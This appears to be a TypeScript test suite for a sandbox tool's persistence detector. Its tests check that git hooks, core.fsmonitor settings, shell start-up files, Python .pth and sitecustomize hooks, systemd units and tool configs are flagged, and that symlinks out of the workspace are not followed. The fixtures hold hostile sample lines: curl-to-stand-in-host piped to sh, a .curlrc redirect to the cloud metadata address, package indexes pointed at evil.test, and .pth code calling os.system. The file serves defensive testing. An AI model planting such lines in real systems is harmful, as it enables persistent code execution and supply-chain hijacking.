// The persistence watch on a real directory: what it sees, what it must not follow, what it must not miss.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { persistenceChanges, snapshotPersistence, type ListCache } from '../src/session/persistence-watch.js';
import { snapshotRootPersistence } from '../src/session/root-persistence-watch.js';

test('persistence watch: never follows a symlink out of the workspace (the link itself is the place); a rewrite with its mtime put back is still a change', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-pw-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const ws = join(dir, 'ws'), host = join(dir, 'host');
  mkdirSync(ws);
  mkdirSync(join(host, 'lib', 'python3.11', 'site-packages'), { recursive: true });
  writeFileSync(join(host, 'authorized_keys'), 'ssh-ed25519 AAAA host');
  writeFileSync(join(host, 'lib', 'python3.11', 'site-packages', 'sitecustomize.py'), '');
  // `ln -s /root/.ssh .ssh`: Corral runs as root and must not report on the host's files
  symlinkSync(host, join(ws, '.ssh'));
  symlinkSync(host, join(ws, '.local'));
  const linked = snapshotPersistence(ws);
  assert.deepEqual([...linked.keys()].sort(), ['.local', '.ssh'], 'the links are places; nothing behind them is looked at');
  assert.match(linked.get('.ssh')![1].what, /^symbolic link on the way to a SSH login file/);
  rmSync(join(ws, '.ssh'));
  rmSync(join(ws, '.local'));

  mkdirSync(join(ws, 'repo', '.git', 'hooks'), { recursive: true });
  writeFileSync(join(ws, 'repo', '.git', 'hooks', 'pre-commit.sample'), '');
  writeFileSync(join(ws, '.bashrc'), 'aaaa');
  const before = snapshotPersistence(ws);
  assert.deepEqual([...before.keys()], ['.bashrc'], 'hook samples are not hooks');
  const st = statSync(join(ws, '.bashrc'));
  writeFileSync(join(ws, '.bashrc'), 'bbbb');
  utimesSync(join(ws, '.bashrc'), st.atime, st.mtime);
  writeFileSync(join(ws, 'repo', '.git', 'hooks', 'post-checkout'), '#!/bin/sh\n');
  assert.deepEqual(persistenceChanges(before, snapshotPersistence(ws)).map((c) => [c.path, c.created]), [['.bashrc', false], ['repo/.git/hooks/post-checkout', true]]);
});

test('root persistence watch: a link planted over a place (a file, a whole place directory, a directory on its way, a python3.X directory) is itself a change; none is followed', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-rpw-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const upper = join(dir, 'upper'), elsewhere = join(dir, 'elsewhere');
  mkdirSync(join(elsewhere, 'site-packages'), { recursive: true });
  writeFileSync(join(elsewhere, 'x.sh'), 'curl x | sh\n');
  writeFileSync(join(elsewhere, 'site-packages', 'sitecustomize.py'), '');
  for (const d of ['etc/cron.d', 'usr/local/lib/python3.12', 'usr/lib']) mkdirSync(join(upper, d), { recursive: true });
  symlinkSync('/workspace/x.so', join(upper, 'etc', 'ld.so.preload'));
  symlinkSync('/workspace/job', join(upper, 'etc', 'cron.d', 'job'));
  symlinkSync(elsewhere, join(upper, 'etc', 'profile.d'));
  symlinkSync(elsewhere, join(upper, 'etc', 'systemd'));
  symlinkSync(elsewhere, join(upper, 'etc', 'zsh'));
  symlinkSync(elsewhere, join(upper, 'usr', 'lib', 'python3.11'));
  symlinkSync(join(elsewhere, 'site-packages'), join(upper, 'usr', 'local', 'lib', 'python3.12', 'dist-packages'));
  const snap = snapshotRootPersistence(upper);
  assert.deepEqual([...snap.keys()].sort(), ['etc/cron.d/job', 'etc/ld.so.preload', 'etc/profile.d', 'etc/systemd', 'etc/zsh', 'usr/lib/python3.11', 'usr/local/lib/python3.12/dist-packages']);
  assert.deepEqual(snap.get('etc/systemd')![1].attack, ['T1543.002']);
  assert.deepEqual(snap.get('usr/lib/python3.11')![1].attack, ['T1546.018']);
  // (what the links point at is never looked into: the files there are not in the snapshot)
  assert.ok(![...snap.keys()].some((k) => k.endsWith('x.sh') || k.endsWith('sitecustomize.py')));
});

test('root persistence watch: a PATH program that replaces or shadows the image\'s, a changed shared library, system .pth code, /etc/gitconfig commands, ld.so.conf and logout files (a red-team review, session 41); an installed new tool is not one', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-rpw2-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const upper = join(dir, 'upper'), lower = join(dir, 'lower');
  const put = (root: string, rel: string, text = 'x\n') => { mkdirSync(join(root, rel, '..'), { recursive: true }); writeFileSync(join(root, rel), text); };
  for (const f of ['usr/bin/ls', 'usr/bin/git', 'usr/lib/x86_64-linux-gnu/libtinfo.so.6', 'etc/gitconfig']) put(lower, f);
  const before = snapshotRootPersistence(upper, lower);
  put(upper, 'usr/local/bin/ls', '#!/bin/sh\nexec /usr/bin/ls "$@"\n');      // shadows /usr/bin/ls
  put(upper, 'usr/bin/git');                                                    // replaces the image's git
  put(upper, 'usr/local/bin/pytest');                                           // a new tool: pip install
  put(upper, 'usr/lib/x86_64-linux-gnu/libtinfo.so.6');                         // a changed library
  put(upper, 'usr/lib/x86_64-linux-gnu/libnew.so.1');                           // a new one: a package installed
  put(upper, 'usr/lib/python3/dist-packages/zz.pth', 'import os; os.system("id")\n');
  put(upper, 'usr/lib/python3/dist-packages/ok.pth', '/opt/extra\n');
  put(upper, 'etc/gitconfig', '[core]\n\tfsmonitor = /tmp/f\n');
  put(upper, 'etc/ld.so.conf', '/workspace/lib\n');
  put(upper, 'etc/bash.bash_logout', 'curl x.test | sh\n');
  const changes = persistenceChanges(before, snapshotRootPersistence(upper, lower));
  assert.deepEqual(changes.map((c) => c.path).sort(), ['etc/bash.bash_logout', 'etc/gitconfig', 'etc/ld.so.conf', 'usr/bin/git', 'usr/lib/python3/dist-packages/zz.pth', 'usr/lib/x86_64-linux-gnu/libtinfo.so.6', 'usr/local/bin/ls']);
  assert.match(changes.find((c) => c.path === 'usr/local/bin/ls')!.place.what, /shadows the image's ls/);
  assert.match(changes.find((c) => c.path === 'usr/bin/git')!.place.what, /replaces the image's git/);
  // a git config rewritten without such settings is no longer one
  const now = snapshotRootPersistence(upper, lower);
  put(upper, 'etc/gitconfig', '[user]\n\tname = x\n');
  assert.ok(!snapshotRootPersistence(upper, lower).has('etc/gitconfig') && now.has('etc/gitconfig'));
});

test('persistence watch: a repository config that makes git run a command is a change when those settings change, not when git rewrites the file; a linked config is not read', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-pw-git-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const ws = join(dir, 'ws');
  mkdirSync(join(ws, 'repo', '.git'), { recursive: true });
  const cfg = join(ws, 'repo', '.git', 'config');
  writeFileSync(cfg, '[core]\n\tbare = false\n[user]\n\temail = a@example.test\n');
  const clean = snapshotPersistence(ws);
  assert.deepEqual([...clean.keys()], [], 'git init and user settings are ordinary');
  writeFileSync(cfg, '[core]\n\tbare = false\n\tfsmonitor = "curl -s http://x.test/p | sh"\n');
  const planted = snapshotPersistence(ws);
  const changes = persistenceChanges(clean, planted);
  assert.equal(changes.length, 1);
  assert.equal(changes[0]!.path, 'repo/.git/config');
  assert.match(changes[0]!.place.what, /core\.fsmonitor = curl -s http:\/\/x\.test\/p \| sh/);
  // git rewrites the file for an unrelated setting: the same hook, no new change
  writeFileSync(cfg, '[core]\n\tbare = false\n\tfsmonitor = "curl -s http://x.test/p | sh"\n[user]\n\tname = bot\n');
  assert.deepEqual(persistenceChanges(planted, snapshotPersistence(ws)), []);
  // a config that is a link is never followed (Corral is root; the target may be the host's)
  rmSync(cfg);
  writeFileSync(join(dir, 'host.cfg'), '[core]\n\tfsmonitor = ./x\n');
  symlinkSync(join(dir, 'host.cfg'), cfg);
  const linked = snapshotPersistence(ws);
  assert.deepEqual([...linked.keys()], ['repo/.git/config'], 'the link is reported');
  assert.match(linked.get('repo/.git/config')![1].what, /outside the workspace/);
  assert.doesNotMatch(linked.get('repo/.git/config')![1].what, /\.\/x/, 'the host file was not read');
});

/** A fresh workspace for one case, and the changes a function makes there. */
function changesOf(t: { after: (fn: () => void) => void }, setup: (ws: string) => void, act: (ws: string) => void): { path: string; created: boolean; what: string }[] {
  const dir = mkdtempSync(join(tmpdir(), 'corral-pw-hide-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const ws = join(dir, 'ws');
  mkdirSync(ws);
  setup(ws);
  const before = snapshotPersistence(ws);
  act(ws);
  return persistenceChanges(before, snapshotPersistence(ws)).map((c) => ({ path: c.path, created: c.created, what: c.place.what }));
}
const FSM = '[core]\n\tfsmonitor = touch /workspace/RAN; false #\n';
const gitRepo = (ws: string, name = '.git') => mkdirSync(join(ws, name, 'hooks'), { recursive: true });

test('persistence watch: git settings that run commands are found in every config git loads (worktree config, past 64 KiB, a .git file naming another directory, the user\'s own configs)', (t) => {
  // (a review, session 24: each of these ran its command on the next `git status` and raised nothing)
  assert.deepEqual(changesOf(t, (ws) => gitRepo(ws), (ws) => writeFileSync(join(ws, '.git', 'config.worktree'), FSM)).map((c) => c.path), ['.git/config.worktree']);
  assert.deepEqual(changesOf(t, (ws) => gitRepo(ws), (ws) => writeFileSync(join(ws, '.git', 'config'), `#${'x'.repeat(70_000)}\n${FSM}`)).map((c) => c.path), ['.git/config']);
  for (const gitdir of ['.gd', '/workspace/.gd']) {
    const moved = changesOf(t, (ws) => { gitRepo(ws, '.gd'); writeFileSync(join(ws, '.git'), `gitdir: ${gitdir}\n`); }, (ws) => {
      writeFileSync(join(ws, '.gd', 'config'), FSM);
      writeFileSync(join(ws, '.gd', 'hooks', 'pre-commit'), '#!/bin/sh\n');
    });
    assert.deepEqual(moved.map((c) => c.path).sort(), ['.gd/config', '.gd/hooks/pre-commit'], gitdir);
  }
  const user = changesOf(t, (ws) => mkdirSync(join(ws, '.config', 'git'), { recursive: true }), (ws) => {
    writeFileSync(join(ws, '.gitconfig'), FSM);
    writeFileSync(join(ws, '.config', 'git', 'config'), '[credential]\n\thelper = /workspace/.cache/helper\n');
  });
  assert.deepEqual(user.map((c) => c.path).sort(), ['.config/git/config', '.gitconfig']);
  assert.match(user.find((c) => c.path === '.gitconfig')!.what, /^user git config .*core\.fsmonitor = touch/);
  // (a git directory outside the workspace is not looked into: the `.git` file naming it is the place)
  assert.deepEqual(changesOf(t, () => {}, (ws) => writeFileSync(join(ws, '.git'), 'gitdir: /tmp/elsewhere\n')).map((c) => c.path), ['.git']);
});

test('persistence watch: submodules\' git directories (nested, names with slashes) and linked worktrees\' configs are watched too', (t) => {
  // (git runs a `git status` in each submodule on the superproject's own `git status`, reading the
  // submodule's config from .git/modules/<name>; `git submodule update` runs its hooks there)
  const mod = (ws: string, name: string) => { mkdirSync(join(ws, '.git', 'modules', name, 'hooks'), { recursive: true }); writeFileSync(join(ws, '.git', 'modules', name, 'HEAD'), 'ref: refs/heads/main\n'); };
  const planted = changesOf(t, (ws) => { gitRepo(ws); mod(ws, 'sub'); mod(ws, 'libs/deep'); mod(ws, 'sub/modules/inner'); mkdirSync(join(ws, '.git', 'worktrees', 'wt'), { recursive: true }); }, (ws) => {
    writeFileSync(join(ws, '.git', 'modules', 'sub', 'config'), FSM);
    writeFileSync(join(ws, '.git', 'modules', 'libs', 'deep', 'hooks', 'post-checkout'), '#!/bin/sh\n');
    writeFileSync(join(ws, '.git', 'modules', 'sub', 'modules', 'inner', 'hooks', 'pre-commit'), '#!/bin/sh\n');
    writeFileSync(join(ws, '.git', 'worktrees', 'wt', 'config.worktree'), FSM);
  });
  assert.deepEqual(planted.map((c) => c.path).sort(), ['.git/modules/libs/deep/hooks/post-checkout', '.git/modules/sub/config', '.git/modules/sub/modules/inner/hooks/pre-commit', '.git/worktrees/wt/config.worktree']);
  assert.match(planted.find((c) => c.path === '.git/modules/sub/config')!.what, /^submodule git config .*core\.fsmonitor/);
  // an ordinary submodule config (no command settings) is not a place; a crowd of modules is bounded and said
  assert.deepEqual(changesOf(t, (ws) => { gitRepo(ws); mod(ws, 'sub'); }, (ws) => writeFileSync(join(ws, '.git', 'modules', 'sub', 'config'), '[core]\n\tbare = false\n')), []);
  const crowd = changesOf(t, (ws) => { gitRepo(ws); for (let i = 0; i < 70; i++) mod(ws, `m${String(i).padStart(2, '0')}`); }, (ws) => mod(ws, 'zz-new'));
  assert.ok(crowd.some((c) => c.path === '.git/modules' && /past the 64/.test(c.what)), JSON.stringify(crowd));
});

test('persistence watch: a symbolic link inside the workspace does not hide a place: it is followed there (and is a place itself), and a place that is a link changes with its target', (t) => {
  // `.local` -> dl, then the hook written through it
  const py = changesOf(t, (ws) => mkdirSync(join(ws, 'dl', 'lib', 'python3.11', 'site-packages'), { recursive: true }), (ws) => {
    symlinkSync('dl', join(ws, '.local'));
    writeFileSync(join(ws, 'dl', 'lib', 'python3.11', 'site-packages', 'usercustomize.py'), 'print(1)\n');
  });
  assert.deepEqual(py.map((c) => c.path).sort(), ['.local', '.local/lib/python3.11/site-packages/usercustomize.py']);
  // a link made in one call, the hook written behind it in a later one: that later call is found too
  const later = changesOf(t, (ws) => { mkdirSync(join(ws, 'units')); mkdirSync(join(ws, '.config')); symlinkSync('../units', join(ws, '.config', 'systemd')); mkdirSync(join(ws, 'units', 'user')); },
    (ws) => writeFileSync(join(ws, 'units', 'user', 'x.service'), '[Service]\nExecStart=/bin/true\n'));
  assert.deepEqual(later.map((c) => [c.path, c.created]), [['.config/systemd/user/x.service', true]]);
  // `.bashrc` -> notes.txt: appending to notes.txt changes what every login shell runs
  const rc = changesOf(t, (ws) => { writeFileSync(join(ws, 'notes.txt'), 'hi\n'); symlinkSync('notes.txt', join(ws, '.bashrc')); },
    (ws) => writeFileSync(join(ws, 'notes.txt'), 'hi\necho PAYLOAD\n'));
  assert.deepEqual(rc.map((c) => [c.path, c.created]), [['.bashrc', false]]);
  // an absolute link under the workspace's mount is the workspace's own file
  const abs = changesOf(t, (ws) => writeFileSync(join(ws, 'n2'), 'a\n'), (ws) => symlinkSync('/workspace/n2', join(ws, '.profile')));
  assert.deepEqual(abs.map((c) => c.path), ['.profile']);
  assert.match(abs[0]!.what, /shell start-up file/);
  // git hooks: a hooks directory that is a link (the link is a place, the hook behind it too), a hook that is a link
  // to a script elsewhere in the workspace (changes with it), and a .git that is a link
  const hooksLink = changesOf(t, (ws) => { mkdirSync(join(ws, 'r', '.git'), { recursive: true }); mkdirSync(join(ws, 'staged')); },
    (ws) => { symlinkSync('../../staged', join(ws, 'r', '.git', 'hooks')); writeFileSync(join(ws, 'staged', 'pre-push'), '#!/bin/sh\n'); });
  assert.deepEqual(hooksLink.map((c) => c.path).sort(), ['r/.git/hooks', 'r/.git/hooks/pre-push']);
  const hookIsLink = changesOf(t, (ws) => { mkdirSync(join(ws, 'r', '.git', 'hooks'), { recursive: true }); writeFileSync(join(ws, 'tool.sh'), 'a\n'); symlinkSync('../../../tool.sh', join(ws, 'r', '.git', 'hooks', 'post-merge')); },
    (ws) => writeFileSync(join(ws, 'tool.sh'), 'a\ncurl x.test | sh\n'));
  assert.deepEqual(hookIsLink.map((c) => [c.path, c.created]), [['r/.git/hooks/post-merge', false]]);
  const gitLink = changesOf(t, (ws) => { mkdirSync(join(ws, 'real-git', 'hooks'), { recursive: true }); mkdirSync(join(ws, 'r')); symlinkSync('../real-git', join(ws, 'r', '.git')); },
    (ws) => writeFileSync(join(ws, 'real-git', 'hooks', 'commit-msg'), '#!/bin/sh\n'));
  assert.deepEqual(gitLink.map((c) => [c.path, c.created]), [['r/.git/hooks/commit-msg', true]]);
});

test('persistence watch: a crowd of files does not hide a place: hooks and Python hooks are looked up by name, a crowded autostart directory is reported', (t) => {
  const hook = changesOf(t, (ws) => gitRepo(ws), (ws) => {
    for (let i = 0; i < 400; i++) writeFileSync(join(ws, '.git', 'hooks', `pad${i}.sample`), '');
    writeFileSync(join(ws, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n');
  });
  assert.deepEqual(hook.map((c) => c.path), ['.git/hooks/pre-commit']);
  const site = join('.local', 'lib', 'python3.11', 'site-packages');
  const py = changesOf(t, (ws) => { for (let i = 0; i < 1000; i++) mkdirSync(join(ws, site, `pkg${i}`), { recursive: true }); },
    (ws) => writeFileSync(join(ws, site, 'usercustomize.py'), ''));
  assert.deepEqual(py.map((c) => c.path), [`${site}/usercustomize.py`]);
  const auto = changesOf(t, (ws) => mkdirSync(join(ws, '.config', 'autostart'), { recursive: true }), (ws) => {
    for (let i = 0; i < 4200; i++) writeFileSync(join(ws, '.config', 'autostart', `e${i}.desktop`), '');
  });
  assert.ok(auto.some((c) => c.path === '.config/autostart' && /too crowded to check/.test(c.what)), JSON.stringify(auto.slice(0, 3)));
});

test('persistence watch: repositories nested deeper than one level are found (a Go-style src/host/org/repo, a checkout vendored in a project), not inside package trees; a look with the search cache sees a repository made after a cached look', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-pw-nested-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const ws = join(dir, 'ws');
  const hook = (repo: string, name = 'pre-commit') => {
    mkdirSync(join(ws, repo, '.git', 'hooks'), { recursive: true });
    writeFileSync(join(ws, repo, '.git', 'hooks', name), '#!/bin/sh\ncurl http://x.test | sh\n');
  };
  mkdirSync(join(ws, 'src', 'git.test', 'org', 'tool'), { recursive: true });
  const cache = new Map();
  const before = snapshotPersistence(ws, '/workspace', cache);
  assert.deepEqual([...before.keys()], []);
  assert.ok(cache.size >= 4, 'the directories searched are remembered');
  // made right after a cached look (the same timestamp tick, maybe): still seen
  hook('src/git.test/org/tool');
  hook('project/third_party/lib');
  hook('project/node_modules/dep'); // a package tree is not searched
  hook('a/b/c/d/e/f'); // past the depth searched (.git seven levels down)
  const after = snapshotPersistence(ws, '/workspace', cache);
  assert.deepEqual(persistenceChanges(before, after).map((c) => c.path).sort(), ['project/third_party/lib/.git/hooks/pre-commit', 'src/git.test/org/tool/.git/hooks/pre-commit']);
  assert.equal(after.get('src/git.test/org/tool/.git/hooks/pre-commit')![1].what, 'git hook (runs on git commands in that repository)');
  // a later hook in a repository found through cached directories; and one in a new repository beside it, once the racy window passed
  await new Promise((r) => setTimeout(r, 150));
  const again = snapshotPersistence(ws, '/workspace', cache);
  hook('src/git.test/org/tool', 'post-checkout');
  hook('src/git.test/org/other');
  assert.deepEqual(persistenceChanges(again, snapshotPersistence(ws, '/workspace', cache)).map((c) => c.path).sort(),
    ['src/git.test/org/other/.git/hooks/pre-commit', 'src/git.test/org/tool/.git/hooks/post-checkout']);
  // without a cache the same places
  assert.deepEqual([...snapshotPersistence(ws).keys()].sort(), [...snapshotPersistence(ws, '/workspace', cache).keys()].sort());
});

test('persistence watch: a .pth in the user site with code no packaging tool writes is a Python start-up hook; pip\'s and setuptools\' lines are not (a red-team review, session 40)', (t) => {
  const ws = mkdtempSync(join(tmpdir(), 'corral-pth-'));
  t.after(() => rmSync(ws, { recursive: true, force: true }));
  const site = join(ws, '.local', 'lib', 'python3.11', 'site-packages');
  mkdirSync(site, { recursive: true });
  // what packaging tools write: a path line, an editable finder, the distutils shim, a namespace package (today's template and the has_mfs one), virtualenv's
  writeFileSync(join(site, 'easy-install.pth'), '/workspace/src\n# a comment\n');
  writeFileSync(join(site, '__editable__.mypkg-0.1.pth'), 'import __editable___mypkg_0_1_finder; __editable___mypkg_0_1_finder.install()\n');
  writeFileSync(join(site, 'distutils-precedence.pth'), "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n");
  writeFileSync(join(site, 'google_auth-2.0-py3.9-nspkg.pth'), "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n");
  writeFileSync(join(site, 'zope.interface-5.0-nspkg.pth'), "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n");
  const before = snapshotPersistence(ws);
  assert.deepEqual([...before.keys()], [], 'packaging lines are not places');
  // planted: a new file, a line appended to a namespace package's, the finder line with more after it, a tab after import
  writeFileSync(join(site, 'zz_compat.pth'), "import os; os.system('date >> /workspace/.pth-ran')\n");
  writeFileSync(join(site, 'zope.interface-5.0-nspkg.pth'), `${"import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)"};__import__('os').system('id')\n`);
  writeFileSync(join(site, '__editable__.mypkg-0.1.pth'), "import __editable___mypkg_0_1_finder; __editable___mypkg_0_1_finder.install(); import evil\n");
  writeFileSync(join(site, 'tab.pth'), 'import\tevil_module\n');
  // (a line ended by a lone \r, as Python's universal newlines read it, and a byte order mark before the first line)
  writeFileSync(join(site, 'cr.pth'), '/workspace/lib\rimport os; os.system("id")\n');
  writeFileSync(join(site, 'bom.pth'), '\ufeffimport evil_module\n');
  // (virtualenv's line belongs in a virtual environment, not a user site: there it ran a planted _virtualenv.py — round 2)
  writeFileSync(join(site, '_virtualenv.pth'), 'import _virtualenv\n');
  const changes = persistenceChanges(before, snapshotPersistence(ws));
  const site_ = '.local/lib/python3.11/site-packages';
  assert.deepEqual(changes.map((c) => c.path).sort(), [`${site_}/__editable__.mypkg-0.1.pth`, `${site_}/_virtualenv.pth`, `${site_}/bom.pth`, `${site_}/cr.pth`, `${site_}/tab.pth`, `${site_}/zope.interface-5.0-nspkg.pth`, `${site_}/zz_compat.pth`]);
  const planted = changes.find((c) => c.path.endsWith('zz_compat.pth'))!;
  assert.deepEqual(planted.place.attack, ['T1546.018']);
  assert.match(planted.place.what, /^Python \.pth file with code .*os\.system/);
  // a path line added to a planted file changes nothing; another code line does
  const now = snapshotPersistence(ws);
  writeFileSync(join(site, 'zz_compat.pth'), "import os; os.system('date >> /workspace/.pth-ran')\n/workspace/lib\n");
  assert.deepEqual(persistenceChanges(now, snapshotPersistence(ws)), []);
});

test('persistence watch: the other shell start-up files (.bash_aliases, .zlogin, fish) and user units under ~/.local/share are watched (a red-team review, session 40)', (t) => {
  const ws = mkdtempSync(join(tmpdir(), 'corral-sh-'));
  t.after(() => rmSync(ws, { recursive: true, force: true }));
  const before = snapshotPersistence(ws);
  for (const d of ['.config/fish', '.local/share/systemd/user']) mkdirSync(join(ws, d), { recursive: true });
  for (const f of ['.bash_aliases', '.zlogin', '.config/fish/config.fish', '.local/share/systemd/user/upd.service']) writeFileSync(join(ws, f), 'x\n');
  const changes = persistenceChanges(before, snapshotPersistence(ws));
  assert.deepEqual(changes.map((c) => [c.path, c.place.attack[0]]).sort(), [['.bash_aliases', 'T1546.004'], ['.config/fish/config.fish', 'T1546.004'], ['.local/share/systemd/user/upd.service', 'T1543.002'], ['.zlogin', 'T1546.004']]);
});

test('persistence watch: a start-up hook in any form Python imports it (a package, a compiled module), and one in a directory a .pth path line puts on sys.path (round 2 of the session-40 review)', (t) => {
  const ws = mkdtempSync(join(tmpdir(), 'corral-hook-'));
  t.after(() => rmSync(ws, { recursive: true, force: true }));
  const site = join(ws, '.local', 'lib', 'python3.11', 'site-packages');
  mkdirSync(site, { recursive: true });
  mkdirSync(join(ws, '.cache', 'pyhook'), { recursive: true });
  mkdirSync(join(ws, 'lib'), { recursive: true });
  writeFileSync(join(site, 'paths.pth'), '/workspace/.cache/pyhook\n../../../../lib\n/usr/lib/python3/dist-packages\n');
  const before = snapshotPersistence(ws);
  assert.deepEqual([...before.keys()], [], 'path lines alone are not places');
  mkdirSync(join(site, 'usercustomize'));
  writeFileSync(join(site, 'usercustomize', '__init__.py'), 'import os\n');
  writeFileSync(join(site, 'sitecustomize.cpython-311-x86_64-linux-gnu.so'), 'ELF');
  writeFileSync(join(ws, '.cache', 'pyhook', 'usercustomize.py'), 'import os\n');
  writeFileSync(join(ws, 'lib', 'sitecustomize.pyc'), 'pyc');
  const site_ = '.local/lib/python3.11/site-packages';
  assert.deepEqual(persistenceChanges(before, snapshotPersistence(ws)).map((c) => [c.path, c.place.attack[0]]).sort(), [
    ['.cache/pyhook/usercustomize.py', 'T1546.018'], [`${site_}/sitecustomize.cpython-311-x86_64-linux-gnu.so`, 'T1546.018'],
    [`${site_}/usercustomize`, 'T1546.018'], [`${site_}/usercustomize/__init__.py`, 'T1546.018'], ['lib/sitecustomize.pyc', 'T1546.018'],
  ]);
});

test('persistence watch: with a listing cache the user site is not read again while unchanged, and a .pth added after a cached look is still found', (t) => {
  const ws = mkdtempSync(join(tmpdir(), 'corral-lc-'));
  t.after(() => rmSync(ws, { recursive: true, force: true }));
  const site = join(ws, '.local', 'lib', 'python3.11', 'site-packages');
  mkdirSync(site, { recursive: true });
  for (let i = 0; i < 50; i++) mkdirSync(join(site, `pkg${i}`));
  const cache: ListCache = new Map();
  const before = snapshotPersistence(ws, '/workspace', undefined, cache);
  const real = '.local/lib/python3.11/site-packages';
  assert.equal(cache.get(real)?.list.length, 50, 'the site listing is kept');
  writeFileSync(join(site, 'zz.pth'), 'import os; os.system("id")\n');
  const after = snapshotPersistence(ws, '/workspace', undefined, cache);
  assert.deepEqual(persistenceChanges(before, after).map((c) => c.path), [`${real}/zz.pth`]);
  assert.equal(cache.get(real)?.list.length, 51, 'read again once the directory changed');
});

test('persistence watch: tool configurations later commands obey, virtual environments\' sites and a git commondir are watched (a red-team review, session 41)', (t) => {
  // a .curlrc's connect-to sent a later `curl` of an allowed name to the metadata address; pip/npm indexes; pdb/gdb commands
  const tools = changesOf(t, (ws) => mkdirSync(join(ws, '.config', 'pip'), { recursive: true }), (ws) => {
    writeFileSync(join(ws, '.curlrc'), 'connect-to = registry.test:80:169.254.169.254:80\n');
    writeFileSync(join(ws, '.config', 'pip', 'pip.conf'), '[global]\nindex-url = http://evil.test/simple\n');
    writeFileSync(join(ws, '.npmrc'), 'registry=http://evil.test/\n');
    writeFileSync(join(ws, '.pdbrc'), '!import os; os.system("id")\n');
  });
  assert.deepEqual(tools.map((c) => c.path).sort(), ['.config/pip/pip.conf', '.curlrc', '.npmrc', '.pdbrc']);
  assert.ok(tools.every((c) => /^tool configuration later commands obey/.test(c.what)));

  // a .pth with code in a project's virtual environment (top level and one level down); virtualenv's own line is not one
  const venv = (ws: string, at: string) => { mkdirSync(join(ws, at, 'lib', 'python3.11', 'site-packages'), { recursive: true }); writeFileSync(join(ws, at, 'pyvenv.cfg'), 'home = /usr/bin\n'); };
  const sites = changesOf(t, (ws) => { venv(ws, '.venv'); venv(ws, 'proj/venv'); mkdirSync(join(ws, 'notvenv', 'lib', 'python3.11', 'site-packages'), { recursive: true }); }, (ws) => {
    writeFileSync(join(ws, '.venv', 'lib', 'python3.11', 'site-packages', 'zz.pth'), 'import socket; socket.create_connection(("10.0.0.5", 5432))\n');
    writeFileSync(join(ws, '.venv', 'lib', 'python3.11', 'site-packages', '_virtualenv.pth'), 'import _virtualenv\n');
    writeFileSync(join(ws, 'proj', 'venv', 'lib', 'python3.11', 'site-packages', 'sitecustomize.py'), 'import os\n');
    writeFileSync(join(ws, 'notvenv', 'lib', 'python3.11', 'site-packages', 'zz.pth'), 'import os\n');
  });
  assert.deepEqual(sites.map((c) => c.path).sort(), ['.venv/lib/python3.11/site-packages/zz.pth', 'proj/venv/lib/python3.11/site-packages/sitecustomize.py']);

  // commondir: .git copied aside, core.fsmonitor planted in the copy, commondir pointing at it
  const common = changesOf(t, (ws) => { gitRepo(ws); gitRepo(ws, '.cache/gd'); }, (ws) => {
    writeFileSync(join(ws, '.cache', 'gd', 'config'), FSM);
    writeFileSync(join(ws, '.git', 'commondir'), '../.cache/gd\n');
  });
  assert.deepEqual(common.map((c) => c.path).sort(), ['.cache/gd/config', '.git/commondir']);
  // what `git worktree add` writes is not one: a linked worktree's commondir naming its main git directory
  assert.deepEqual(changesOf(t, (ws) => gitRepo(ws), (ws) => {
    mkdirSync(join(ws, '.git', 'worktrees', 'wt'), { recursive: true });
    writeFileSync(join(ws, '.git', 'worktrees', 'wt', 'commondir'), '../..\n');
    mkdirSync(join(ws, 'wt'));
    writeFileSync(join(ws, 'wt', '.git'), 'gitdir: /workspace/.git/worktrees/wt\n');
  }), []);
});
